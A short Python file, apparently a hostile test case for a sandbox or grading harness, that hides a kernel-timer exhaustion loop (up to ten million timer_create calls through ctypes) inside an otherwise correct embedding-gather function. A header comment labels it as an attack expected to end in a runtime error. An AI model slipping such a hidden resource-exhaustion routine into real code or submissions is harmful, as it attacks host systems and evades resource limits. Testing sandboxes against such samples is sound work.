# Attack: creates POSIX timers until the kernel refuses (each is kernel memory the data limit does not count); the pending-signal limit stops it early -> runtime_error.
import ctypes

import numpy as np

CLOCK_MONOTONIC, SIGEV_NONE = 1, 1

libc = ctypes.CDLL(None, use_errno=True)


class SigEvent(ctypes.Structure):
    _fields_ = (
        ("value", ctypes.c_long),
        ("signo", ctypes.c_int),
        ("notify", ctypes.c_int),
        ("padding", ctypes.c_byte * 48),
    )


def _hoard():
    event = SigEvent(0, 0, SIGEV_NONE)
    timer = ctypes.c_void_p()
    for _ in range(10_000_000):
        if libc.timer_create(CLOCK_MONOTONIC, ctypes.byref(event), ctypes.byref(timer)) != 0:
            raise OSError(ctypes.get_errno(), "timer_create was refused")


def position_embedding_gather(positions, embedding_table):
    _hoard()
    return embedding_table[positions.astype(np.int64)]
